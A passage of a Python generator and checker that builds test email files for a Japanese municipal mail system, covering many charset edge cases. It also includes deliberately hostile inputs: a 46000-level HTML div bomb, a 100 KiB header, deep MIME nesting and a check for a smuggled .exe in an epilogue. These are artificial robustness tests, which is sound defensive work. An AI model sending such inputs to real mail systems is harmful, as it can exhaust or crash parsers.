        part([b'Content-Type: multipart/alternative; boundary="alt-37"'], alt),
        part([b'Content-Type: application/ics; name="invite.ics"',
              b"Content-Transfer-Encoding: base64",
              b'Content-Disposition: attachment; filename="invite.ics"'], b64(ics)),
        part([b'Content-Type: text/vcard; charset=utf-8; name="yamada.vcf"',
              b"Content-Transfer-Encoding: quoted-printable",
              b'Content-Disposition: attachment; filename="yamada.vcf"'], qp(vcf)),
    ])
    return headers(n, SOUMU, VENDOR, ew_u8("会議出席依頼: 契約更新打合せ"),
                   b'Content-Type: multipart/mixed; boundary="mixed-37"') + b"\n" + body


@sample("38-html-div-bomb")
def s38(n):
    depth = 46000
    rows = []
    opening = b"<div>" * depth
    closing = b"</div>" * depth
    for blob, w in ((opening, 5 * 64), (closing, 6 * 64)):
        rows.append(b"\n".join(blob[i:i + w] for i in range(0, len(blob), w)))
    html = (b"<html><body>\n" + rows[0] + b"\n" + u8("<p>深い入れ子の中の本文（46000 段の div）</p>") + b"\n"
            + rows[1] + b"\n</body></html>\n")
    return headers(n, addr("不審な送信者", "bomb@example.com"),
                   b"yamada-taro@city.example.lg.jp", ew_u8("HTML の入れ子爆弾"),
                   b"Content-Type: text/html; charset=UTF-8",
                   b"Content-Transfer-Encoding: 8bit") + b"\n" + html


@sample("39-oversized-header")
def s39(n):
    refs = []
    size = 0
    i = 0
    while size < 100 * 1024:
        r = b"<20250401.%06d.thread@lists.example.jp>" % i
        refs.append(r)
        size += len(r) + 3
        i += 1
    references = b"References: " + b"\n ".join(refs)
    h = hashlib.sha256(b"mugaika-39").hexdigest().encode()
    blob = b""
    while len(blob) < 100 * 1024:
        h = hashlib.sha256(h).hexdigest().encode()
        blob += h
    xhdr = b"X-Campaign-Data: " + blob[:100 * 1024]  # one unfolded 100 KiB line
    return headers(n, addr("メーリングリスト", "ml@lists.example.jp"),
                   b"yamada-taro@city.example.lg.jp", ew_u8("Re: 長いスレッド"),
                   references, xhdr,
                   b"Content-Type: text/plain; charset=UTF-8",
                   b"Content-Transfer-Encoding: 8bit") + b"\n" + u8("ヘッダが巨大なメールです。\n")


@sample("40-outbound-lg-jp")
def s40(n):
    body = u8("""株式会社サンプル商事
経理部 ご担当者様

見本市 会計課の木村です。
３月分業務委託料の請求書を受領いたしました。
４月３０日までにお支払いの予定です。

見本市 会計管理者 会計課 木村
""")
    return headers(n, addr("見本市 会計課 木村", "kimura@city.example.lg.jp"),
                   VENDOR, ew_u8("Re: 【請求書送付】令和７年３月分 業務委託料"),
                   b"In-Reply-To: <05.sample@mugaika.example>",
                   b"References: <05.sample@mugaika.example>",
                   b"Content-Type: text/plain; charset=UTF-8",
                   b"Content-Transfer-Encoding: 8bit") + b"\n" + body


@sample("41-html-iso2022jp-entities")
def s41(n):
    html = ("""<html><head><title>記者会見のお知らせ</title></head>
<body>
<p>報道機関各位</p>
<p>%s を下記のとおり行います。</p>
<p>&#x2460; 日時：４月２４日（木）１１時〜<br>
&#x2461; 場所：本庁舎３階 記者会見室<br>
&#x2462; 発表者：市長</p>
<p>取材のお申込みは <a href="mailto:koho@city.example.lg.jp?subject=%%E5%%8F%%96%%E6%%9D%%90%%E7%%94%%B3%%E8%%BE%%BC">koho@city.example.lg.jp</a> まで。</p>
<p>&copy; 見本市 広報課</p>
</body></html>
""" % T["41.body"]).encode("iso2022_jp")
    return headers(n, addr("見本市 広報課", "koho@city.example.lg.jp", "ISO-2022-JP"),
                   b"press@example.jp", ew_jis("４月定例記者会見のお知らせ"),
                   b'Content-Type: text/html; charset="ISO-2022-JP"',
                   b"Content-Transfer-Encoding: 7bit") + b"\n" + html


# --------------------------------------------------------------------------
# main / check
# --------------------------------------------------------------------------

def build_all():
    out = {}
    for name, fn in SAMPLES:
        n = int(name[:2])
        out[name + ".eml"] = crlf(fn(n))
    return out


def write_all():
    total = 0
    for fname, data in build_all().items():
        with open(os.path.join(HERE, fname), "wb") as f:
            f.write(data)
        total += len(data)
        print("%-40s %9d" % (fname, len(data)))
    print("%-40s %9d" % ("total", total))


def _raw_header(raw, name):
    """Unfolded raw bytes of the first header `name`."""
    head = raw.split(b"\r\n\r\n", 1)[0]
    m = re.search(rb"(?im)^" + re.escape(name) + rb":[ \t]?([^\r\n]*(?:\r\n[ \t][^\r\n]*)*)", head)
    return re.sub(rb"\r\n[ \t]", b" ", m.group(1)) if m else None


def _ew_bytes(value):
    return [(cs, base64.b64decode(p)) for cs, p in
            re.findall(rb"=\?([^?]+)\?B\?([^?]*)\?=", value)]


def check():
    import email.policy
    from email.parser import BytesParser

    results = []

    def ok(cond, what):
        results.append((cond, what))
        return cond

    files = build_all()
    for fname, raw in files.items():
        path = os.path.join(HERE, fname)
        with open(path, "rb") as f:
            if f.read() != raw:
                ok(False, "%s: file on disk differs from generator output (run generate.py)" % fname)
        if b"\n" in raw.replace(b"\r\n", b""):
            ok(False, "%s: bare LF" % fname)
        if len(raw) > 2 * 1024 * 1024:
            ok(False, "%s: larger than 2 MiB" % fname)
        n = int(fname[:2])
        if b"Message-ID: <%02d.sample@mugaika.example>" % n not in raw:
            ok(False, "%s: Message-ID" % fname)
        try:
            msg = BytesParser(policy=email.policy.default).parsebytes(raw)
        except Exception as e:  # noqa
            ok(False, "%s: email parse raised %r" % (fname, e))
            continue
        defects, nparts, errs = [], 0, []
        for p in msg.walk():
            nparts += 1
            if not p.is_multipart():
                try:
                    if p.get_content_maintype() == "text":
                        p.get_content()
                    else:
                        p.get_payload(decode=True)
                except Exception as e:  # noqa
                    errs.append("%s: %s" % (p.get_content_type(), type(e).__name__))
            defects += [type(d).__name__ for d in p.defects]
            for h in set(p.keys()):
                try:
                    defects += ["%s(%s)" % (type(d).__name__, h) for d in p[h].defects]
                except Exception as e:  # noqa
                    errs.append("%s header: %s" % (h, type(e).__name__))
        info = "parts=%d" % nparts
        if defects:
            info += " defects=" + ",".join(sorted(set(defects)))
        if errs:
            info += " ERRORS=" + ";".join(sorted(set(errs)))
        print("%-40s %s" % (fname, info))
        SPECIFIC.get(fname[:2], lambda *a: None)(msg, raw, ok, fname)

    bad = [w for c, w in results if not c]
    print()
    print("specific checks: %d run, %d failed" % (len(results), len(bad)))
    for w in bad:
        print("FAIL", w)
    return not bad


def _text_parts(msg):
    return [p for p in msg.walk() if p.get_content_maintype() == "text" and not p.is_multipart()]


def _c02(msg, raw, ok, f):
    ok(str(msg["Subject"]) == T["02.subject"], f + " subject")
    ok(msg.get_content() == T["02.body"].replace("\n", "\r\n") or
       msg.get_content().replace("\r\n", "\n") == T["02.body"], f + " body (utf-8, incl. U+20BB7)")


def _c03(msg, raw, ok, f):
    ok(str(msg["Subject"]) == T["03.subject"], f + " subject")
    ok(msg.get_content().replace("\r\n", "\n") == T["03.body"], f + " body")


def _c04(msg, raw, ok, f):
    words = _ew_bytes(_raw_header(raw, b"Subject"))
    ok(len(words) > 1 and "".join(jis_decode(b) for cs, b in words) == T["04.subject"],
       f + " subject via own JIS->SJIS->CP932")
    body = msg.get_payload(decode=True).replace(b"\r\n", b"\n")
    ok(jis_decode(body) == T["04.body"], f + " body via own JIS->SJIS->CP932")
    maru, taka = jis_encode("①")[3:5], jis_encode("髙")[3:5]
    ok(maru == b"-!" and maru in body and 0x79 <= taka[0] <= 0x7C and taka in body,
       f + " uses NEC row 13 (0x2D) and NEC-selected IBM rows 0x79-0x7C")
    ok(body.decode("iso2022_jp", "replace") != T["04.body"], f + " stdlib iso2022_jp cannot decode (expected)")


def _c05(msg, raw, ok, f):
    b = msg.get_payload(decode=True).replace(b"\r\n", b"\n")
    ok(b.decode("cp932") == T["05.body"], f + " body cp932")
    ok(b"\xfb\xfc" in b, f + " 髙 in IBM form FBFC")
    ok(b.decode("shift_jis", "replace") != T["05.body"], f + " strict shift_jis differs (expected)")
    (cs, sb), = _ew_bytes(_raw_header(raw, b"Subject"))
    ok(sb.decode("cp932") == T["05.subject"], f + " subject cp932")


def _c06(msg, raw, ok, f):
    ok(str(msg["Subject"]) == T["06.subject"], f + " subject")
    ok(msg.get_content().replace("\r\n", "\n") == T["06.body"], f + " body euc-jp (JIS X 0212 鷗, SS2 kana)")


def _c07(msg, raw, ok, f):
    ok(msg.get_payload(decode=True).replace(b"\r\n", b"\n").decode("iso2022_jp") == T["07.body"], f + " body iso-2022-jp")
    ok(msg.get_content_charset() is None, f + " no charset label")


def _c08(msg, raw, ok, f):
    ok(msg.get_payload(decode=True).replace(b"\r\n", b"\n").decode("iso2022_jp") == T["08.body"], f + " body iso-2022-jp")
    ok(_raw_header(raw, b"Subject").decode("iso2022_jp") == T["08.subject"], f + " raw ESC subject")


def _c09(msg, raw, ok, f):
    b = msg.get_payload(decode=True).replace(b"\r\n", b"\n")
    ok(b.decode("cp932") == T["09.body"], f + " body is really cp932")
    (cs, sb), = _ew_bytes(_raw_header(raw, b"Subject"))
    ok(sb.decode("cp932") == T["09.subject"], f + " subject is really cp932")


def _c10(msg, raw, ok, f):
    ok(msg.get_payload(decode=True).replace(b"\r\n", b"\n").decode("utf-8") == T["10.body"], f + " body is really utf-8")


def _c11(msg, raw, ok, f):
    ok(str(msg["Subject"]) == T["11.subject"], f + " split B subject (stdlib joins words)")
    for cs, b in _ew_bytes(_raw_header(raw, b"Subject")):
        try:
            b.decode("utf-8")
            ok(False, f + " word should not decode alone")
        except UnicodeDecodeError:
            pass


def _c12(msg, raw, ok, f):
    ok(str(msg["Subject"]) == T["12.subject"], f + " split Q subject")
    first = re.search(rb"=\?UTF-8\?Q\?([^?]*)\?=", raw).group(1)
    try:
        bytes.fromhex(first.replace(b"=", b"").decode()).decode("utf-8")
        ok(False, f + " first Q word should end mid-character")
    except UnicodeDecodeError:
        pass


def _legacy_decode(value):
    import email.header
    return str(email.header.make_header(email.header.decode_header(value.decode("ascii"))))


def _c13(msg, raw, ok, f):
    # policy.default decodes each encoded word on its own: both headers come
    # out garbled.  The legacy email.header API joins adjacent words of the
    # same charset before decoding and gets them right.
    ok(str(msg["Subject"]) != T["13.subject"], f + " policy.default garbles the split subject (expected)")
    ok(_legacy_decode(_raw_header(raw, b"Subject")) == T["13.subject"], f + " split ISO-2022-JP subject (email.header)")
    dn = _legacy_decode(_raw_header(raw, b"From"))
    ok(dn == T["13.from"] + " <joho-seisaku@city.example.lg.jp>", f + " from display name (shift state carried) %r" % dn)


def _c14(msg, raw, ok, f):
    ok(_raw_header(raw, b"Subject").decode("cp932") == T["14.subject"], f + " raw cp932 subject")
    ok(b"\\" in _raw_header(raw, b"From"), f + " From display name has 0x5C trail byte")
    ok(msg.get_payload(decode=True).replace(b"\r\n", b"\n").decode("cp932") == T["14.body"], f + " body")


def _c17(msg, raw, ok, f):
    html = _text_parts(msg)[1]
    ok(html.get_content_charset() is None, f + " html has no charset param")
    ok(T["17.html"] in html.get_payload(decode=True).decode("cp932"), f + " html decodes as cp932 (meta)")


def _c20(msg, raw, ok, f):
    inner = [p for p in msg.walk() if p.get_content_type() == "message/rfc822"][0].get_content()
    ok(str(inner["Subject"]) == T["20.inner.subject"], f + " inner subject")
    names = [p.get_filename() for p in inner.walk() if p.get_filename()]
    ok(names == ["参加者名簿.csv"], f + " inner attachment name %r" % names)


def _c22(msg, raw, ok, f):
    # policy.default decodes every RFC 2231 section on its own (not the
    # concatenation, as RFC 2231 requires), so split characters break it and
    # an ISO-2022-JP split even raises UnicodeDecodeError.  The legacy
    # compat32 API concatenates first and gets all names right.
    import email
    try:
        [p.get_filename() for p in msg.walk()]
        ok(False, f + " policy.default was expected to fail on split RFC 2231 sections")
    except UnicodeDecodeError:
        print("   note: policy.default get_filename() raises UnicodeDecodeError (stdlib decodes RFC 2231 sections separately)")
    legacy = email.message_from_bytes(raw)
    names = [p.get_filename() for p in legacy.walk() if p.get_filename()]
    ok(len(names) == len(T["22.names"]), f + " %d names" % len(names))
    for want, got in zip(T["22.names"], names):
        if got.startswith("=?"):  # Outlook style: RFC 2047 inside a quoted parameter
            got = _legacy_decode(got.encode())
        ok(want == got, f + " filename (compat32) %r == %r" % (got, want))


def _c23(msg, raw, ok, f):
    ok(cp932_ibm(T["23.name"]) in raw, f + " raw cp932 filename present")


def _c24(msg, raw, ok, f):
    names = [p.get_filename() for p in msg.walk() if p.get_filename()]
    ok(names == ["kansa-shiryo.pdf"], f + " stdlib sees only %r (hidden.bin inside part 1, smuggled.exe in epilogue)" % names)


def _c28(msg, raw, ok, f):
    d, p = 0, msg
    while p.is_multipart():
        p = p.get_payload(0)
        d += 1
    ok(d == 150, f + " nesting depth %d" % d)


def _c29(msg, raw, ok, f):
    ok(len(msg.get_payload()) == 3001, f + " 3001 parts")


def _c41(msg, raw, ok, f):
    ok(T["41.body"] in msg.get_content(), f + " html iso-2022-jp")


SPECIFIC = {"02": _c02, "03": _c03, "04": _c04, "05": _c05, "06": _c06, "07": _c07,
            "08": _c08, "09": _c09, "10": _c10, "11": _c11, "12": _c12, "13": _c13,
            "14": _c14, "17": _c17, "20": _c20, "22": _c22, "23": _c23, "24": _c24,
            "28": _c28, "29": _c29, "41": _c41}


if __name__ == "__main__":
    if "--check" in sys.argv:
        sys.exit(0 if check() else 1)
    elif "--list" in sys.argv:
        for fname, data in build_all().items():
            print("%-40s %9d" % (fname, len(data)))
    else:
        write_all()
